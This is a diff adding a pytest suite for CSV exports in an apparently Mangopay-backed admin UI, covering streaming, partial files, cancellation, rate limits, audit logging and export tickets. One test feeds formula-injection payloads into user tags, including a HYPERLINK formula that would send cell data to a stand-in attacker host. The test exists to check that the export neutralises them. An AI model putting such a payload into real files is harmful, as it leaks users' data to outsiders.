@@ -1,0 +1,434 @@
+"""Lists as files: whole or visibly not, of what the address asks for; and what the page that began one says of it."""
+
+import asyncio
+import csv
+import io
+import re
+import sqlite3
+from collections.abc import AsyncIterator, Callable, Mapping
+from contextlib import closing
+from dataclasses import dataclass, field, replace
+from html import unescape
+from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+import pytest
+from fastapi import FastAPI
+from nicegui import Client, ui
+from starlette.types import ASGIApp, Message
+
+from models.audit import Act, AuditEntry
+from models.environment import Environment
+from models.known import KnownUser
+from models.objects.listings import LISTINGS
+from models.permissions import Role
+from services.access.actors import Actor
+from services.bootstrap import Services, build
+from services.database import Database
+from services.mangopay.limits import WINDOW_MINUTES, RateLimit, Window
+from services.objects.exports import Progress
+from services.settings import Settings
+from tests.actors import make_actor
+from tests.services.access.world import stored_rows
+from tests.services.objects.shop import Row, Shop, client_of, page_of
+from tests.services.search.market import NOW, learn, person
+from tests.ui.guarded import SHELL, until
+from ui import errors
+from ui.components.export import MOST, ExportButton, Exports
+from ui.components.list_state import ListState
+from ui.pages import exports as page
+from ui.places import Places
+
+LOCAL = Environment.LOCAL
+VICTOR = make_actor(Role.VIEWER, LOCAL, email="victor@example.com")
+USERS = LISTINGS["users"]
+Answer = Callable[[httpx.Request], httpx.Response]
+
+
+@dataclass
+class Download:
+    """What a browser got, and whether it was told that this was all."""
+
+    status: int = 0
+    headers: Mapping[str, str] = field(default_factory=dict)
+    body: bytes = b""
+    is_whole: bool = False
+
+    @property
+    def rows(self) -> list[dict[str, str]]:
+        return list(csv.DictReader(io.StringIO(self.body.decode(), newline="")))
+
+
+class Browser:
+    """Fetches one address; `leaves_after` so many pieces it goes, `at_piece` hears of each before the next is sent."""
+
+    def __init__(
+        self, app: ASGIApp, actor: Actor, *, leaves_after: int | None = None, at_piece: Callable[[int], object] = id
+    ) -> None:
+        self._app = app
+        self._actor = actor
+        self._leaves_after = leaves_after
+        self._at_piece = at_piece
+
+    async def get(self, url: str) -> Download:
+        got, pieces, gone = Download(), 0, asyncio.Event()
+        asked = iter([{"type": "http.request", "body": b"", "more_body": False}])
+
+        async def receive() -> Message:
+            for message in asked:
+                return message
+            await gone.wait()
+            return {"type": "http.disconnect"}
+
+        async def send(message: Message) -> None:
+            nonlocal pieces
+            if message["type"] == "http.response.start":
+                headers = {name.decode(): value.decode() for name, value in message["headers"]}
+                got.status, got.headers = message["status"], headers
+                return
+            got.body += message["body"]
+            got.is_whole = not message.get("more_body", False)
+            pieces += 1
+            self._at_piece(pieces)
+            if pieces == self._leaves_after:
+                gone.set()
+            await asyncio.sleep(0)
+
+        path, _, query = url.partition("?")
+        scope = {
+            "type": "http",
+            "method": "GET",
+            "path": path,
+            "query_string": query.encode(),
+            "headers": [],
+            "state": {"actor": self._actor, "nonce": ""},
+        }
+        await self._app(scope, receive, send)
+        return got
+
+
+@dataclass
+class Counter:
+    """Where exports are handed out, before a Mangopay that answers what a test says."""
+
+    services: Services
+    shop: Shop
+    exports: Exports
+    app: ASGIApp
+    opened: list[Client] = field(default_factory=list)
+
+    async def fetch(self, url: str, actor: Actor = VICTOR, **manners: int | Callable[[int], object]) -> Download:
+        return await Browser(self.app, actor, **manners).get(url)  # type: ignore[arg-type]
+
+    def button(self, state: ListState | None = None, *, listing: str = "users", of: str = "") -> "Button":
+        client = Client(ui.page(""))
+        self.opened.append(client)
+        with client:
+            shown = state or ListState()
+            return Button(client, ExportButton(VICTOR, self.exports, LISTINGS[listing], lambda: shown, of=of))
+
+
+@dataclass
+class Button:
+    """The button on an open page, as somebody presses it and reads what it says."""
+
+    client: Client
+    button: ExportButton
+
+    async def press(self) -> str:
+        """Begin an export, and return the address that the browser is sent to."""
+        with self.client:
+            self.button._begin()
+        [address] = [str(message[2]["path"]) for message in self.client.outbox.messages if message[1] == "open"]
+        return address
+
+    @property
+    def says(self) -> str:
+        self.button._look()
+        return unescape(re.sub(r"<[^>]+>", "", self.button._said.content)).strip()
+
+    @property
+    def looks_on(self) -> bool:
+        return bool(self.button._timer.active)
+
+
+@pytest.fixture
+def shop() -> Shop:
+    shop = Shop()
+    shop.lists("/users", users(250))
+    return shop
+
+
+@pytest.fixture
+async def counter(database: Database, tmp_path: Path, shop: Shop) -> AsyncIterator[Counter]:
+    settings = Settings(_env_file=None, data_dir=tmp_path, local=True, database_url=str(database.url))
+    built = build(settings)
+    services = replace(built, clients={LOCAL: client_of(shop)})
+    places, exports, app = Places(), Exports(), FastAPI(openapi_url=None)
+    page.register(places, services, exports)
+    app.router.routes.extend(places.routes)
+    errors.register(app, SHELL)
+    counter = Counter(services, shop, exports, app)
+    yield counter
+    for client in counter.opened:
+        client.delete()
+    await services.clients[LOCAL].aclose()
+    await built.clients[LOCAL].aclose()
+    await built.http.aclose()
+    await built.database.dispose()
+
+
+def users(count: int, **fields: object) -> list[Row]:
+    return [
+        {"Id": f"user_m_{number}", "PersonType": "NATURAL", "CreationDate": number} | fields for number in range(count)
+    ]
+
+
+def second_page(answer: Answer) -> Answer:
+    """Have the second page of 250 users answered in another way than the others."""
+    return lambda request: answer(request) if request.url.params["page"] == "2" else page_of(users(250), request)
+
+
+async def test_a_whole_list_ends_as_it_should(counter: Counter) -> None:
+    button = counter.button()
+    got = await counter.fetch(await button.press())
+    assert (got.status, got.is_whole) == (200, True)
+    assert got.headers["content-type"] == "text/csv; charset=utf-8"
+    assert re.fullmatch(r'attachment; filename="users-local-\d{4}-\d\d-\d\d\.csv"', got.headers["content-disposition"])
+    assert [row["Id"] for row in got.rows] == [f"user_m_{number}" for number in range(250)]
+    assert list(got.rows[0]) == [column.fact.label for column in USERS.columns]
+    assert got.rows[7]["Created"] == "1970-01-01T00:00:07+00:00"
+    assert button.says.endswith("250 rows exported.")
+    assert not button.looks_on
+
+
+async def test_a_list_of_nothing_is_a_line_of_labels(counter: Counter) -> None:
+    counter.shop.lists("/users", [])
+    got = await counter.fetch("/exports/users.csv")
+    assert got.is_whole
+    assert got.body.decode().strip() == ",".join(column.fact.label for column in USERS.columns)
+
+
+async def test_what_fails_in_its_midst_is_broken_off_and_the_page_says_so(counter: Counter) -> None:
+    counter.shop.does("/users", second_page(lambda _: httpx.Response(500)))
+    button = counter.button()
+    got = await counter.fetch(await button.press())
+    assert (got.status, len(got.rows), got.is_whole) == (200, 100, False)
+    assert "The export stopped after 100 rows: Mangopay has a fault of its own." in button.says
+    assert "The file is not complete. Export again." in button.says
+    assert not button.looks_on
+
+
+async def test_what_fails_at_once_is_told_by_a_page(counter: Counter) -> None:
+    counter.shop.says("/users", status=500)
+    button = counter.button()
+    got = await counter.fetch(await button.press())
+    assert (got.status, got.is_whole) == (502, True)
+    assert got.body.decode().startswith("Mangopay has a fault of its own. ")
+    assert "content-disposition" not in got.headers
+    assert "The export stopped after 0 rows" in button.says
+
+
+async def test_an_unknown_list_is_not_found_and_leaves_no_line_in_the_log(counter: Counter) -> None:
+    got = await counter.fetch("/exports/passwords.csv")
+    assert (got.status, got.body) == (404, b"There is no such list.")
+    assert counter.shop.asked == []
+    assert await stored_rows(counter.services.database, AuditEntry) == []
+
+
+async def test_who_stops_it_gets_a_file_that_is_broken_off(counter: Counter) -> None:
+    button = counter.button()
+    got = await counter.fetch(await button.press(), at_piece=lambda _: button.button._give_up())
+    assert (len(got.rows), got.is_whole) == (100, False)
+    assert button.says == "Stopped after 100 of 250 rows. The file is not complete."
+
+
+async def test_who_stops_it_while_it_waits_for_the_limit_hears_of_no_error(counter: Counter) -> None:
+    button = counter.button()
+    address = await button.press()
+    late = NOW.replace(year=2100)
+    counter.services.clients[LOCAL].governor.hear(
+        RateLimit(tuple(Window(minutes, 9, 0, late) for minutes in WINDOW_MINUTES))
+    )
+    fetching = asyncio.create_task(counter.fetch(address))
+    await until(lambda: "Waiting for Mangopay's rate limit 2100-11-22 12:00:01 UTC" in button.says)
+    assert button.looks_on
+    button.button._give_up()
+    got = await fetching
+    assert (got.rows, got.is_whole) == ([], False)
+    assert button.says == "Stopped after 0 rows. The file is not complete."
+
+
+async def test_who_leaves_in_its_midst_is_told_no_success(counter: Counter) -> None:
+    """The browser's own button to cancel a download, or a line that breaks."""
+    button = counter.button()
+    got = await counter.fetch(await button.press(), leaves_after=1)
+    assert not got.is_whole
+    assert "The export stopped after 0 rows: The download was broken off." in button.says
+    assert not button.looks_on
+
+
+async def test_a_database_that_fails_in_its_midst_is_told_no_success(counter: Counter) -> None:
+    def lose_the_index(_piece: int) -> None:
+        with closing(sqlite3.connect(counter.services.database.url.database or "")) as connection:
+            connection.execute("DROP TABLE known_user")
+            connection.commit()
+
+    button = counter.button()
+    address = await button.press()
+    with pytest.raises(RuntimeError, match="response already started"):
+        await counter.fetch(address, at_piece=lose_the_index)
+    assert "The export stopped after 100 rows" in button.says
+
+
+async def test_who_is_signed_out_meanwhile_gets_no_further_row(counter: Counter) -> None:
+    sessions = {1}
+    actor = replace(VICTOR, is_alive=lambda: 1 in sessions)
+    button = counter.button()
+    got = await counter.fetch(await button.press(), actor, at_piece=lambda _: sessions.clear())
+    assert (len(got.rows), got.is_whole) == (100, False)
+    assert "The export stopped after 100 rows: The session has ended." in button.says
+
+
+async def test_it_is_in_the_audit_log_before_mangopay_is_asked(counter: Counter) -> None:
+    seen: list[tuple[str, str, str]] = []
+
+    def look(request: httpx.Request) -> httpx.Response:
+        with closing(sqlite3.connect(counter.services.database.url.database or "")) as connection:
+            seen.extend(connection.execute("SELECT who, act, about FROM audit_entry"))
+        return page_of([], request)
+
+    counter.shop.does("/kyc/documents", look)
+    await counter.fetch("/exports/kyc-documents.csv?Status=REFUSED&Type=")
+    assert seen == [("victor@example.com", "export", "kyc documents Status=REFUSED")]
+
+
+async def test_what_failed_at_once_is_in_the_audit_log_too(counter: Counter) -> None:
+    counter.shop.says("/users", status=403)
+    await counter.fetch("/exports/users.csv")
+    [entry] = await stored_rows(counter.services.database, AuditEntry)
+    assert (entry.act, entry.about, entry.who) == (Act.EXPORT, "users", "victor@example.com")
+
+
+async def test_no_tag_of_a_user_becomes_a_formula(counter: Counter) -> None:
+    tags = ['=HYPERLINK("http://mallory.test?"&A1)', "@SUM(1)", "+1", "-1", "\t=1", "\r=1", 'a",=1\r\n=1', "vip"]
+    counter.shop.lists("/users", [{"Id": str(number), "Tag": tag} for number, tag in enumerate(tags)])
+    got = await counter.fetch("/exports/users.csv")
+    assert [row["Tag"] for row in got.rows] == [f"'{tag}" for tag in tags[:6]] + tags[6:]
+
+
+async def test_amounts_are_in_major_units_and_words_are_mangopays_own(counter: Counter) -> None:
+    wallet = {"Id": "w", "Balance": {"Amount": 123_456, "Currency": "EUR"}, "Description": "Alice's, €"}
+    counter.shop.lists("/users/alice/wallets", [wallet])
+    [row] = (await counter.fetch("/exports/user-wallets.csv?of=alice")).rows
+    assert (row["Balance"], row["Description"]) == ("1234.56 EUR", "Alice's, €")
+
+
+async def test_the_query_narrows_it_as_it_narrows_the_page(counter: Counter) -> None:
+    counter.shop.lists("/kyc/documents", [])
+    await counter.fetch("/exports/kyc-documents.csv?Status=REFUSED&since=1793491200000&page=3&Nature=x")
+    asked = counter.shop.query
+    assert asked == {
+        "page": "1",
+        "per_page": "100",
+        "Sort": "CreationDate:ASC",
+        "Status": "REFUSED",
+        "AfterDate": "1793491200",
+    }
+
+
+async def test_of_users_whose_names_are_known_here_the_file_tells_them(counter: Counter) -> None:
+    counter.shop.lists("/users", [person(1) | {"FirstName": None}, person(2)])
+    await learn(counter.services.database, person(1, "Alice", "Martin"), environment=LOCAL)
+    first, second = (await counter.fetch("/exports/users.csv")).rows
+    assert (first["Name"], first["Country"]) == ("Alice Martin", "FR")
+    assert (second["Name"], second["Country"]) == ("", "")
+
+
+@pytest.mark.parametrize("query", ["Name=Bob", "KYCLevel=REGULAR", "Country=de", "Name=bob&KYCLevel=REGULAR&sort=name"])
+async def test_users_that_are_looked_for_come_from_the_index(counter: Counter, query: str) -> None:
+    bob = person(2, "Bob", "Seller", KYCLevel="REGULAR", CountryOfResidence="DE", Tag="=1")
+    await learn(counter.services.database, person(1), bob, person(3), environment=LOCAL)
+    await learn(counter.services.database, person(4, "Bob", "Elsewhere", KYCLevel="REGULAR", CountryOfResidence="DE"))
+    got = await counter.fetch(f"/exports/users.csv?{query}")
+    assert got.is_whole
+    [row] = got.rows
+    assert (row["Name"], row["Country"], row["Tag"], row["KYC"]) == ("Bob Seller", "DE", "'=1", "REGULAR")
+    assert counter.shop.asked == []
+    [entry] = await stored_rows(counter.services.database, AuditEntry)
+    assert entry.about.startswith("users ")
+
+
+async def test_of_users_that_nobody_knows_there_is_a_line_of_labels(counter: Counter) -> None:
+    button = counter.button(ListState(filters={"Name": "Nobody"}))
+    got = await counter.fetch(await button.press())
+    assert (got.status, got.is_whole) == (200, True)
+    assert got.body.decode().strip() == ",".join(column.fact.label for column in USERS.columns)
+    assert button.says.endswith("0 rows exported.")
+
+
+async def test_all_users_of_the_index_are_in_it_once(counter: Counter) -> None:
+    database = counter.services.database
+    known = [
+        KnownUser(environment=LOCAL, user_id=f"u{number}", kyc_level="LIGHT", created_at=NOW) for number in range(2_100)
+    ]
+    async with database.session() as session:
+        session.add_all(known)
+        await session.commit()
+    button = counter.button(ListState(filters={"KYCLevel": "LIGHT"}))
+    got = await counter.fetch(await button.press())
+    assert sorted(row["Id"] for row in got.rows) == sorted(user.user_id for user in known)
+    assert button.says.endswith("2,100 rows exported.")
+
+
+async def test_the_button_leads_to_what_its_page_shows(counter: Counter) -> None:
+    state = ListState(filters={"Status": "REFUSED"}, sort="x", ascending=True, page=3, per_page=50)
+    address = urlsplit(await counter.button(state, listing="user-kyc-documents", of="alice").press())
+    assert address.path == "/exports/user-kyc-documents.csv"
+    query = {name: values[0] for name, values in parse_qs(address.query).items()}
+    assert query.pop("ticket")
+    assert query.items() >= {"Status": "REFUSED", "of": "alice"}.items()
+
+
+async def test_a_page_watches_its_own_export_alone(counter: Counter) -> None:
+    first, second = counter.button(), counter.button()
+    mine, _ = await first.press(), await second.press()
+    await counter.fetch(mine)
+    assert first.says.endswith("250 rows exported.")
+    assert second.says == "0 rows"
+
+
+async def test_a_ticket_is_good_once_and_for_its_own_session(counter: Counter) -> None:
+    exports = counter.exports
+    ticket, progress = exports.begin(VICTOR)
+    assert exports.take(ticket, VICTOR) is progress
+    assert exports.take(ticket, VICTOR) is not progress
+    ticket, progress = exports.begin(VICTOR)
+    assert exports.take(ticket, replace(VICTOR, session_id=2)) is not progress
+    assert exports.take("", VICTOR) is not exports.take("", VICTOR)
+
+
+async def test_so_many_exports_are_watched_and_the_oldest_go(counter: Counter) -> None:
+    begun = [counter.exports.begin(VICTOR) for _ in range(MOST + 1)]
+    taken = [counter.exports.take(ticket, VICTOR) is progress for ticket, progress in begun]
+    assert taken == [False] + [True] * MOST
+
+
+@pytest.mark.parametrize(
+    ("progress", "says"),
+    [
+        (Progress(), "0 rows"),
+        (Progress(done=1_200, total=3_400), "1,200 of 3,400 rows"),
+        (Progress(done=3_400, total=3_400, has_ended=True), "3,400 rows exported."),
+        (Progress(done=1_200, total=3_400, waits_until=NOW), "1,200 of 3,400 rows. Waiting for Mangopay's rate limit"),
+        (Progress(done=1_200, error="No.", has_ended=True), "The export stopped after 1,200 rows: No."),
+    ],
+    ids=["begun", "under way", "done", "waiting", "failed"],
+)
+async def test_the_page_says_how_far_it_is(counter: Counter, progress: Progress, says: str) -> None:
+    button = counter.button()
+    await button.press()
+    button.button._progress = progress
+    assert says in button.says
+    assert button.looks_on is not progress.has_ended
